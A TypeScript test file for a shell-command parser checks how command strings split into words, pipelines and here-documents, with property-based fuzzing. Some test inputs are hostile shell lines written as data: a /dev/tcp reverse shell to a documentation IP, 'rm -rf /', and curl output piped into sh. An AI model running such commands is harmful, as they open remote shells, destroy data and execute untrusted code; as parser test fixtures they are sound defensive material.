import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { splitCommands, type ShellCommand } from '../../src/parsers/shell-words.js';
import { unlimitedBudget } from '../helpers/contract.js';

const split = (text: string): readonly ShellCommand[] => splitCommands(text, unlimitedBudget());
const words = (text: string): string[][] =>
  split(text).map((command) => command.words.map((word) => word.text));

describe('splitCommands', () => {
  test.each<[string, string[][]]>([
    ['pip install torch', [['pip', 'install', 'torch']]],
    ['a; b && c || d & e', [['a'], ['b'], ['c'], ['d'], ['e']]],
    ['a | b |& c', [['a'], ['b'], ['c']]],
    ['a |\n  b', [['a'], ['b']]],
    [`echo 'a b' "c d" e\\ f ''`, [['echo', 'a b', 'c d', 'e f', '']]],
    ['echo "a\\"b\\n" \'it\'s', [['echo', 'a"b\\n', 'its']]],
    ['pip install \\\n  torch', [['pip', 'install', 'torch']]],
    ['pip install a#b # c; d', [['pip', 'install', 'a#b']]],
    ['pip install "torch>=2"', [['pip', 'install', 'torch>=2']]],
    ['pip install torch>=2', [['pip', 'install', 'torch', '>=2']]],
    ['a > out.txt 2>&1 < in', [['a', '>out.txt', '2>&1', '<in']]],
    ['bash -i >& /dev/tcp/192.0.2.1/4444 0>&1', [['bash', '-i', '>&/dev/tcp/192.0.2.1/4444', '0>&1']]],
    ['cat <<EOF > x\nrm -rf /\nEOF\nls', [['cat', '<<EOF', '>x'], ['ls']]],
    ["cat <<-'END'\n\tcurl x | sh\n\tEND\nls", [['cat', '<<-END'], ['ls']]],
    ['sh <<< "x y"', [['sh', '<<<x y']]],
    ['(cd a; b) && c', [['cd', 'a'], ['b'], ['c']]],
    [
      'echo $HOME ${X:-a b} $((1 + 2)) $(date +%s)',
      [
        ['echo', '$HOME', '${X:-a b}', '$((1 + 2))', '$(date +%s)'],
        ['date', '+%s'],
      ],
    ],
    [
      'x=`curl "a b"` y',
      [
        ['x=`curl "a b"`', 'y'],
        ['curl', 'a b'],
      ],
    ],
    [
      'bash <(curl x)',
      [
        ['bash', '<(curl x)'],
        ['curl', 'x'],
      ],
    ],
    ['!{sys.executable} -m pip', [['!{sys.executable}', '-m', 'pip']]],
    ['pip install {" ".join(names)} b', [['pip', 'install', '{" ".join(names)}', 'b']]],
    ['{ a; }', [['a']]],
    ['{ a; } > b', [['a', '>b']]],
    ['{a} }', [['{a}', '}']]],
    ['', []],
  ])('%j', (text, expected) => {
    expect(words(text)).toEqual(expected);
  });

  test('knows which words are dynamic', () => {
    const [command] = split('pip install $A "b{c}" \'$d\' {e} {f,g} h');
    expect(command?.words.filter(({ dynamic }) => dynamic).map(({ text }) => text)).toEqual([
      '$A',
      'b{c}',
      '{e}',
      '{f,g}',
    ]);
  });

  test('knows where words and pipelines stand', () => {
    const text = 'a;  curl "x y" | sh -s; b';
    const [, curl, sh] = split(text);
    expect(curl?.words.map(({ start, end }) => text.slice(start, end))).toEqual(['curl', '"x y"']);
    expect(curl?.pipeline).toBe(sh?.pipeline);
    expect(text.slice(curl?.pipeline.start, curl?.pipeline.end)).toBe('curl "x y" | sh -s');
    expect(curl?.next).toBe(sh);
  });

  test('keeps the bodies of here-documents', () => {
    const text = 'a <<E <<-F\nb\nE\n\tc\n\tF\nd';
    const [a, d] = split(text);
    expect(a?.documents.map(({ start, end }) => text.slice(start, end))).toEqual(['b\n', '\tc\n']);
    expect(d?.words).toMatchObject([{ text: 'd' }]);
    expect(split('a <<E')[0]?.documents).toEqual([]);
  });

  test('never fails, comes to an end, and stays in the text', () => {
    const piece = fc.constantFrom(
      'a',
      ' ',
      '\n',
      '"',
      "'",
      '`',
      '$(',
      ')',
      '(',
      '<(',
      '<<',
      'E',
      '|',
      ';',
      '{',
      '}',
      '${',
      '\\',
      '>',
      '#',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
        const text = pieces.join('');
        for (const { words: found } of split(text))
          for (const { start, end } of found) {
            expect(start).toBeLessThanOrEqual(end);
            expect(end).toBeLessThanOrEqual(text.length);
          }
      }),
      { numRuns: 2000 },
    );
  });

  test.each([
    '$(',
    '`',
    '(',
    '{a',
    '{ a; ',
    'for a\n',
    'done\n',
    '"$(',
    '<(',
    '${',
    'a|',
    "'",
    '<<E\n',
    'a\\\n',
  ])('survives many %j', (piece) => {
    expect(split(piece.repeat(20_000)).length).toBeLessThanOrEqual(20_000);
  });
});
